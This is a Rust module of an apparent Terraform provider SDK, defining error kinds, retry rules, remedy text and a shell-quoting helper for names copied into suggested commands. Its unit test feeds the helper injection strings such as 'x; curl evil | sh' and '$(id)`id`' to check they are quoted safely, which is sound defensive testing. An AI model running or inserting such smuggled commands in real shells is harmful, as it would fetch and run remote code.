//! How any error of this program describes itself to the person who has to act on it.
//!
//! Modules below the SDK know nothing of Terraform; they still know best what was tried, why it probably failed and
//! what to do next. They say so through [`Explain`], and one renderer (`sdk::diagnostics`) turns that into text.

use std::fmt;

use crate::redact;

/// The class of a failure. It decides the tone of the message and whether a repetition can help.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// What the user wrote cannot work.
    Configuration,
    /// A credential is missing, wrong or expired.
    Credential,
    /// The credential is fine and lacks a right.
    Permission,
    /// Something else owns, holds or is changing the object.
    Conflict,
    /// The object is not there.
    NotFound,
    /// The service asked to slow down.
    Throttled,
    /// The service began to do what was asked and did not succeed.
    Failed,
    /// The service or the network did not answer, or answered with a fault of its own.
    Unavailable,
    /// The user stopped the run.
    Interrupted,
    /// The operation's time limit ran out.
    Deadline,
    /// A promise inside this program was broken.
    ProviderBug,
}

impl Kind {
    /// Whether the same request may succeed when it is sent again unchanged.
    #[must_use]
    pub const fn retryable(self) -> bool {
        match self {
            Self::Throttled | Self::Unavailable => true,
            Self::Configuration
            | Self::Credential
            | Self::Permission
            | Self::Conflict
            | Self::NotFound
            | Self::Failed
            | Self::Interrupted
            | Self::Deadline
            | Self::ProviderBug => false,
        }
    }
}

/// One thing to do about a failure: a command to run or an edit to make, written as an imperative sentence.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Remedy(String);

impl Remedy {
    /// A remedy from its sentence, such as ``run `az login` ``.
    pub fn new(text: impl Into<String>) -> Self {
        Self(text.into())
    }
}

/// A word of a command line in a remedy, as a shell takes it. Names from elsewhere may hold blanks, quotes and whole
/// commands, and a remedy is there to be copied.
#[must_use]
pub fn shell_word(word: &str) -> String {
    let word = redact::printable(word);
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:@%+=,".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        return word;
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

impl fmt::Display for Remedy {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// What the other side calls this failure, for a support ticket or a search.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Reference {
    /// The error code, as in ARM's `error.code` or Kubernetes' `reason`.
    pub code: Option<String>,
    /// The service's id of the request (`x-ms-request-id`).
    pub request_id: Option<String>,
    /// The id that joins all requests of this process (`x-ms-correlation-request-id`).
    pub correlation_id: Option<String>,
}

/// An error that can say what it is, what to do about it, and where to look further.
///
/// `Display` stays a lower-case fragment that names the object and does not repeat the source; the renderer prints the
/// chain of sources, one a line.
pub trait Explain: std::error::Error + Send + Sync + 'static {
    /// The class of the failure.
    fn kind(&self) -> Kind;

    /// One line in title case, without the object's name: "Cluster Not Reachable".
    fn summary(&self) -> String;

    /// What to do, most likely cure first. Empty when nothing useful can be said.
    fn remedies(&self) -> Vec<Remedy> {
        Vec::new()
    }

    /// The service's own names of this failure.
    fn reference(&self) -> Option<Reference> {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_word_from_elsewhere_stays_one_word() {
        for (word, shown) in [
            ("rg-1", "rg-1"),
            ("/subscriptions/s/x", "/subscriptions/s/x"),
            ("RG_(1)", "'RG_(1)'"),
            ("x; curl evil | sh", "'x; curl evil | sh'"),
            ("it's", r"'it'\''s'"),
            ("$(id)`id`", "'$(id)`id`'"),
            ("a\u{1b}[2K\nb", "'a\nb'"),
            ("", "''"),
        ] {
            assert_eq!(shell_word(word), shown);
        }
    }
}
